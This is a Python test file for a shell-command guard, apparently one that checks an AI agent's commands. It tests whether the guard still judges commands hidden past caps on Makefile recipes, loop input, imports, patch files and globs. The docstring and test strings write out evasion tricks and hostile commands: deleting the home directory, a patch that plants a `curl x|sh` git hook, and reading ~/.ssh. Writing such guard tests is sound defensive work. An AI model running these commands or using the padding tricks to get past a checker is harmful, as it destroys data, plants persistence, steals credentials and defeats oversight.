"""A build or task file the line wrote, and the lines a read loop is fed, are judged one by
one up to a cap; more than that is refused, since the ones past the cap would run unjudged
(a Makefile of 70 recipes whose last deletes the home directory was allowed, and so was a
`while read` loop whose ninth line was the home directory). xargs -I runs once a line,
the whole line in the placeholder (it was judged as every line joined in one word).
The same cap holds where shorter ones dropped the rest: the modules python imports (16),
the files a patch changes (32), the written files a glob runs (8), the folders find and
fd search (4) and the written files find -exec runs (8)."""

from __future__ import annotations

import pytest

from clawkeep.guards.command_guard import judge
from tests.guards.command_guard.test_own_corpus import CTX

_H = "/ho" + "me"
_RECIPES = "".join(f"t{i}:\n\techo {i}\n" for i in range(70))
_TOX = "[testenv]\ncommands =\n" + "".join(f"    echo {i}\n" for i in range(70))


@pytest.mark.parametrize(
    "line",
    [
        f"cat > Makefile <<'EOF'\n{_RECIPES}all:\n\trm -rf {_H}\nEOF\nmake all",
        f"cat > tox.ini <<'EOF'\n{_TOX}    rm -rf {_H}\nEOF\ntox",
    ],
)
def test_a_file_with_more_commands_than_judged_is_refused(line: str) -> None:
    verdict = judge(line, CTX)
    assert not verdict.allowed
    assert verdict.reason in ("command_guard.dynamic_command", "command_guard.destructive_delete")


def test_a_file_under_the_cap_is_judged_command_by_command() -> None:
    recipes = "".join(f"t{i}:\n\techo {i}\n" for i in range(20))
    assert judge(f"cat > Makefile <<'EOF'\n{recipes}EOF\nmake t3", CTX).allowed
    harmful = f"cat > Makefile <<'EOF'\n{recipes}all:\n\trm -rf {_H}\nEOF\nmake all"
    assert judge(harmful, CTX).reason == "command_guard.destructive_delete"


_LINES = "a\n" * 10


@pytest.mark.parametrize(
    "line",
    [
        f"while read f; do rm -rf \"$f\"; done <<'EOF'\n{_LINES}{_H}\nEOF",
        f"while read f; do rm -rf \"$f\"; done <<'EOF'\n{_LINES * 7}{_H}\nEOF",
        f'printf "a\\na\\n{_H}\\n" | xargs -I{{}} rm -rf {{}}',
    ],
)
def test_every_line_fed_to_a_loop_or_xargs_is_judged(line: str) -> None:
    verdict = judge(line, CTX)
    assert not verdict.allowed, line
    assert verdict.reason in ("command_guard.dynamic_command", "command_guard.destructive_delete")


def test_harmless_lines_fed_to_a_loop_or_xargs_are_allowed() -> None:
    assert judge(f"while read f; do echo \"$f\"; done <<'EOF'\n{_LINES}EOF", CTX).allowed
    assert judge('printf "a.txt\\nb.txt\\n" | xargs -I{} cp {} /tmp/', CTX).allowed


_RMTREE = f"import shutil; shutil.rmtree('{_H}')"
_MODULES = ",".join(f"m{i}" for i in range(16))
_DIFFS = "".join(f"--- a/f{i}\n+++ b/f{i}\n@@ -0,0 +1 @@\n+x\n" for i in range(32))
_HOOK = "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x|sh\n"
_NINE = "; ".join(f"echo 'echo {i}' > /tmp/d/s{i}.sh" for i in range(8))
_NINE += f"; echo 'rm -rf {_H}' > /tmp/d/s9.sh"


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        (f'echo "{_RMTREE}" > evil.py; python3 -c "import {_MODULES}, evil"', "destructive_delete"),
        (f"cat > p.diff <<'EOF'\n{_DIFFS}{_HOOK}EOF\npatch -p1 < p.diff", "persistence"),
        (f"{_NINE}; sh /tmp/d/s*", "destructive_delete"),
        (f"{_NINE}; for f in /tmp/d/*; do sh $f; done", "destructive_delete"),
        (f"{_NINE}; cat /tmp/d/*.sh | sh", "destructive_delete"),
        (f"{_NINE}; find /tmp/d -type f -exec sh {{}} \\;", "destructive_delete"),
        (f"find a b c d {_H} -exec rm -rf {{}} +", "credential_read"),
        ("find a b c d ~/.ssh -exec cat {} +", "credential_read"),
    ],
)
def test_the_item_past_a_shorter_cap_is_judged(line: str, effect: str) -> None:
    verdict = judge(line, CTX)
    assert verdict.reason == f"command_guard.{effect}", (line, verdict)


def test_the_same_lines_without_the_harmful_item_are_allowed() -> None:
    harmless = _NINE.replace(f"rm -rf {_H}", "echo 9")
    assert judge(f'echo "print(1)" > ok.py; python3 -c "import {_MODULES}, ok"', CTX).allowed
    assert judge(f"cat > p.diff <<'EOF'\n{_DIFFS}EOF\npatch -p1 < p.diff", CTX).allowed
    assert judge(f"{harmless}; sh /tmp/d/s*", CTX).allowed
    assert judge(f"{harmless}; cat /tmp/d/*.sh | sh", CTX).allowed
    assert judge("find a b c d e -name '*.pyc' -exec rm {} +", CTX).allowed
